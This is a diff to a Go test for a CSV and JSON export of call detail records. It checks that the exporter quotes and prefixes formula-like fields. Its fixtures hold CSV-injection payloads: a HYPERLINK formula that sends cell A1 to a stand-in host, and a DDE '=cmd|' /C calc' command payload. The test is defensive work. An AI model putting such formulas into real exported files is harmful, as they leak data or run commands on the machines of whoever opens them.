@@ -651,6 +651,7 @@ func TestCDRExportStream(t *testing.T) {
 	cdrFixture(t, a)
 	evil := testCDR(77, at("2024-03-02T08:00:00Z"))
 	evil.Calling, evil.Destination, evil.TermCauses = `=HYPERLINK("http://x/?"&A1,"y")`, "@SUM(1)", []string{"+1 cause", "ok"}
+	evil.Called, evil.Protocol, evil.CallID = `1405;=cmd|' /C calc'!A0`, "'quoted", "+AEC"
 	mustStore(t, a, evil)
 	// what storage holds, read without the export's code, in export order
 	var want []CDR
@@ -685,9 +686,15 @@ func TestCDRExportStream(t *testing.T) {
 	if len(want) < 5 || !reflect.DeepEqual(got, want) {
 		t.Fatalf("JSON export differs from the list (%d and %d records)", len(got), len(want))
 	}
-	rows, err := csv.NewReader(strings.NewReader(get("/enroll/cdrs?format=csv"))).ReadAll()
+	raw := get("/enroll/cdrs?format=csv")
+	rows, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
 	if err != nil {
 		t.Fatal(err)
+	}
+	// a spreadsheet splitting on ";" keeps the called number, formula and
+	// all, in its cell
+	if !strings.Contains(raw, `,"1405;=cmd|' /C calc'!A0",`) || !strings.Contains(raw, `,"'+1 cause;ok",`) {
+		t.Fatalf("fields with a semicolon not quoted:\n%s", raw)
 	}
 	if len(rows) != len(want)+1 {
 		t.Fatalf("%d CSV rows for %d records", len(rows), len(want))
@@ -696,7 +703,8 @@ func TestCDRExportStream(t *testing.T) {
 		if row[0] != "77" {
 			continue
 		}
-		if row[4] != `'=HYPERLINK("http://x/?"&A1,"y")` || row[6] != "'@SUM(1)" || row[14] != "'+1 cause;ok" || row[5] != "1405" {
+		if row[4] != `'=HYPERLINK("http://x/?"&A1,"y")` || row[6] != "'@SUM(1)" || row[14] != "'+1 cause;ok" ||
+			row[5] != `1405;=cmd|' /C calc'!A0` || row[15] != "''quoted" || row[3] != "'+AEC" {
 			t.Fatalf("CSV row of the device's text: %q", row)
 		}
 		return
